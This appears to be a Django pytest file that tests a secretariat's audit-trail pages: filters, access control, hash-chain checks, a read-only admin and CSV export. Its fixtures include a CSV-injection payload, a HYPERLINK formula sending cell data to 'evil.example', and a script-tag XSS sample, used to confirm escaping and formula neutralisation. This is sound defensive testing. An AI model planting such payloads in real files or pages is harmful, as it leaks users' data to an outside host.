"""The secretariat's audit pages: browse with filters, the chain's status, the CSV export, the admin."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone

from consult.models import AuditEvent
from consult.services.audit import audit_record, audit_seal

from .factories import make_consultation
from .test_audit import behind_the_trigger

Action = AuditEvent.Action
PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

# The action column's cell of an event, labelled for phones (where the table reads as cards).
ACTION_CELL = '<td data-label="Action">{}</td>'


@pytest.fixture(autouse=True)
def empty_cache():
    cache.clear()


@pytest.fixture
def trail(officer, focal_point_france):
    """Three events in two consultations by two people; the third's label is hostile."""
    hld, gfmd = make_consultation(slug="hld", title="HLD"), make_consultation(slug="gfmd", title="GFMD")
    events = [
        audit_record(action=Action.SUBMITTED, actor=focal_point_france, consultation=hld, obj=hld,
                     details={"receipt_number": "HLD-FRA-2026-7KQ2M9"}, ip="203.0.113.9"),
        audit_record(action=Action.REOPENED, actor=officer, consultation=hld, obj=hld, details={"comment": "Typo"}),
        audit_record(action=Action.DEADLINE_EXTENDED, actor=officer, consultation=gfmd, obj=gfmd,
                     details={"reason": PAYLOAD, "note": "<script>alert(1)</script>"}),
    ]
    audit_seal()  # As the worker does after the commit.
    for event in events:
        event.refresh_from_db()
    return events


def page(client, **filters):
    response = client.get(reverse("consult:audit-list"), filters)
    assert response.status_code == 200
    return response.content.decode()


def test_the_secretariat_sees_the_newest_events_first_escaped(client, officer, trail):
    client.force_login(officer)

    html = page(client)

    cells = [html.index(ACTION_CELL.format(label)) for label in ["Deadline extended", "Reopened", "Submitted"]]
    assert cells == sorted(cells)
    assert "203.0.113.9" in html and "HLD-FRA-2026-7KQ2M9" in html
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.parametrize("filters, expected", [
    ({"consultation": "gfmd"}, ["Deadline extended"]),
    ({"action": "reopened"}, ["Reopened"]),
    ({"actor": "Fabienne"}, ["Submitted"]),
    ({"actor": "officer"}, ["Reopened", "Deadline extended"]),
    ({"date_from": (timezone.now() + timedelta(days=1)).date().isoformat()}, []),
    ({"date_to": timezone.now().date().isoformat(), "consultation": "hld"}, ["Reopened", "Submitted"]),
])
def test_filters_narrow_the_trail(client, officer, trail, filters, expected):
    client.force_login(officer)

    html = page(client, **filters)

    shown = [label for label in ["Submitted", "Reopened", "Deadline extended"] if ACTION_CELL.format(label) in html]
    assert sorted(shown) == sorted(expected)


def test_a_filter_not_understood_is_said_and_ignored(client, officer, trail):
    client.force_login(officer)

    html = page(client, date_from="yesterday")

    assert "Some filters were not understood" in html and ACTION_CELL.format("Submitted") in html


@pytest.mark.parametrize("person", ["focal_point_france", "civil_society_rep", "coordinator_africa", "outsider"])
def test_nobody_else_sees_or_exports_the_trail(client, request, trail, person):
    client.force_login(request.getfixturevalue(person))

    for name in ("consult:audit-list", "consult:audit-export"):
        assert client.get(reverse(name)).status_code == 403
    assert client.post(reverse("consult:audit-list")).status_code == 403
    assert not AuditEvent.objects.filter(action=Action.AUDIT_EXPORTED).exists()


def test_anonymous_visitors_are_asked_to_log_in(client, trail):
    response = client.get(reverse("consult:audit-list"))

    assert response.status_code == 302 and response.url.startswith(reverse("login"))


def test_the_chain_is_checked_on_demand_and_its_status_shown(client, officer, trail):
    client.force_login(officer)
    assert "Not checked yet." in page(client)

    checked = client.post(reverse("consult:audit-list"), follow=True).content.decode()

    assert "The audit chain is intact." in checked and "Intact" in checked
    behind_the_trigger("UPDATE consult_auditevent SET details = '{}' WHERE id = %s", [trail[1].pk])
    broken = client.post(reverse("consult:audit-list"), follow=True).content.decode()
    assert f"The audit chain is broken at event #{trail[1].pk}." in broken


def exported_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_neutralises_formulas_and_is_itself_recorded(client, officer, trail):
    client.force_login(officer)

    response = client.get(reverse("consult:audit-export"), {"consultation": "gfmd"})

    assert response["Content-Disposition"].startswith('attachment; filename="audit-trail-')
    [row] = exported_rows(response)
    assert row["action"] == "deadline_extended" and row["hash"] == trail[2].hash
    assert '"reason": "=HYPERLINK' in row["details"] and row["details"].startswith("{")
    exported = AuditEvent.objects.get(action=Action.AUDIT_EXPORTED)
    assert (exported.actor_id, exported.details, exported.ip_address) == (officer.pk, {"consultation": "gfmd"},
                                                                          "127.0.0.1")


def test_a_formula_at_the_start_of_a_cell_gets_an_apostrophe(client, officer):
    audit_record(action=Action.ROLE_CHANGED, actor=officer, obj=make_consultation(title=PAYLOAD))
    client.force_login(officer)

    rows = exported_rows(client.get(reverse("consult:audit-export"), {"action": "role_changed"}))

    assert [row["object_label"] for row in rows] == ["'" + PAYLOAD]


def test_the_export_runs_oldest_first_with_the_hashes_to_check_it(client, officer, trail):
    client.force_login(officer)

    rows = exported_rows(client.get(reverse("consult:audit-export")))

    chained = [row for row in rows if int(row["id"]) >= trail[0].pk]
    assert [row["previous_hash"] for row in chained[1:]] == [row["hash"] for row in chained[:-1]]
    assert chained[-1]["action"] == "audit_exported"


def test_the_audit_trail_is_read_only_in_the_admin(client, officer, trail):
    client.force_login(officer)
    url = lambda view, *args: reverse(f"admin:consult_auditevent_{view}", args=args)  # noqa: E731

    assert client.get(url("changelist")).status_code == 200
    assert client.get(url("add")).status_code == 403
    assert client.post(url("change", trail[0].pk), {"action": "reopened"}).status_code == 403
    assert client.post(url("delete", trail[0].pk), {"post": "yes"}).status_code == 403
    assert AuditEvent.objects.get(pk=trail[0].pk).action == Action.SUBMITTED


def test_the_secretariat_finds_the_trail_in_the_navigation(client, officer):
    client.force_login(officer)

    assert reverse("consult:audit-list") in client.get(reverse("consult:home")).content.decode()
